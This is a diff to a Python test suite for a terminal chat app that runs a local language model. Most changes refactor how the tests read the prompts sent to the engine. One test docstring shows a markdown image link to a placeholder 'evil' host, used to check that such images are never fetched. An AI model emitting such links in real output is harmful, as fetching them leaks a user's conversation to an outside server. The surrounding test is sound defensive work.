@@ -38,7 +38,7 @@ async def test_a_conversation_of_two_turns(tmp_path: Path) -> None:
         await chat.say(Loading(5, 10), READY)
         assert chat.status() == "ready"
         await chat.send("Hello")
-        assert chat.engine.asked[0].prompt == [
+        assert chat.engine.messages(0) == [
             {"role": "system", "content": "Be brief"},
             {"role": "user", "content": "Hello"},
         ]
@@ -50,7 +50,7 @@ async def test_a_conversation_of_two_turns(tmp_path: Path) -> None:
         assert chat.footers()[-1] == "2 tokens · 21.5 tok/s · first after 0.30 s"
         assert last(chat).query_one(Markdown).source == "**Hi** there"
         await chat.send("And again")
-        assert chat.engine.asked[1].prompt == [
+        assert chat.engine.messages(1) == [
             {"role": "system", "content": "Be brief"},
             {"role": "user", "content": "Hello"},
             {"role": "assistant", "content": "**Hi** there", "ids": [7, 7]},
@@ -94,7 +94,8 @@ async def test_stopped_before_the_first_token_nothing_is_lost(tmp_path: Path) ->
         assert chat.line() == ["Too long", ""]
         assert chat.footers()[-1] == "stopped before the first word"
         await chat.send("Shorter")
-        assert [m["content"] for m in chat.engine.asked[-1].prompt] == ["Shorter"]  # the model is spared the other
+        # the model is spared the other
+        assert [m["content"] for m in chat.engine.messages()] == ["Shorter"]
 
 
 async def test_a_message_sent_while_loading_is_kept_and_answered_then(tmp_path: Path) -> None:
@@ -105,7 +106,7 @@ async def test_a_message_sent_while_loading_is_kept_and_answered_then(tmp_path: 
         await chat.send("second")
         assert chat.app.composer.text == "second"  # one waits, the other stays a draft
         await chat.say(READY)
-        assert chat.engine.asked[0].prompt[-1]["content"] == "early"
+        assert chat.engine.messages(0)[-1]["content"] == "early"
 
 
 async def test_escape_takes_back_a_message_that_waits_for_the_model(tmp_path: Path) -> None:
@@ -191,11 +192,16 @@ async def test_a_link_shows_where_it_leads_and_opens_nothing(tmp_path: Path, mon
 
 
 async def test_an_image_is_its_words_and_nothing_is_fetched(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """To fetch it would tell a stranger's server what was said: ![](http://evil/?the-conversation)."""
+    """To fetch it would tell a stranger's server what was said: ![](http://evil/?all-of-it)."""
     reached: list[object] = []
     for name in ("connect", "connect_ex", "sendto"):
         monkeypatch.setattr(socket.socket, name, lambda self, *given, **more: reached.append(given))
-    monkeypatch.setattr(socket, "getaddrinfo", lambda *given, **more: reached.append(given) or [])
+
+    def look_up(*given: object, **more: object) -> list[object]:
+        reached.append(given)
+        return []
+
+    monkeypatch.setattr(socket, "getaddrinfo", look_up)
     async with chatting(tmp_path) as chat:
         opened: list[str] = []
         monkeypatch.setattr(chat.app, "open_url", lambda url, **_: opened.append(url))
@@ -215,7 +221,7 @@ async def test_a_failed_answer_says_why_and_the_question_is_kept(tmp_path: Path)
         assert "✗ the prompt has 9000 tokens, but [the] context holds 8192" in chat.shown()
         assert chat.line() == ["too long", ""]
         await chat.send("/retry")
-        assert chat.engine.asked[1].prompt == chat.engine.asked[0].prompt
+        assert chat.engine.messages(1) == chat.engine.messages(0)
 
 
 async def test_a_model_that_cannot_be_loaded(tmp_path: Path) -> None:
@@ -264,7 +270,7 @@ async def test_a_new_conversation_leaves_the_old_one_where_it_is(tmp_path: Path)
         assert questions(chat) == []
         assert chat.app.query_one(Welcome).display
         await chat.send("new")
-        assert [m["content"] for m in chat.engine.asked[-1].prompt] == ["new"]
+        assert [m["content"] for m in chat.engine.messages()] == ["new"]
         assert [c.title for c in chat.store.conversations()] == ["new", "old"]
 
 
@@ -379,13 +385,14 @@ def test_native_output_goes_to_the_log_and_the_terminal_comes_back(
         assert sys.__stderr__ is not None
         sys.__stderr__.write("drawn by Textual")
     os.write(2, b"back again")
-    assert capfd.readouterr() == ("drawn by Textual", "back again")  # on stdout: `2>file` must not catch it
+    # on stdout: `2>file` must not catch it
+    assert capfd.readouterr() == ("drawn by Textual", "back again")
     assert (tmp_path / "logs" / "chat.log").read_text() == "native noise"
 
 
 async def test_a_question_to_begin_with(tmp_path: Path) -> None:
     async with chatting(tmp_path, question="What is this?") as chat:
-        assert chat.engine.asked[0].prompt[-1]["content"] == "What is this?"
+        assert chat.engine.messages(0)[-1]["content"] == "What is this?"
 
 
 async def test_the_palette_runs_commands(tmp_path: Path) -> None:
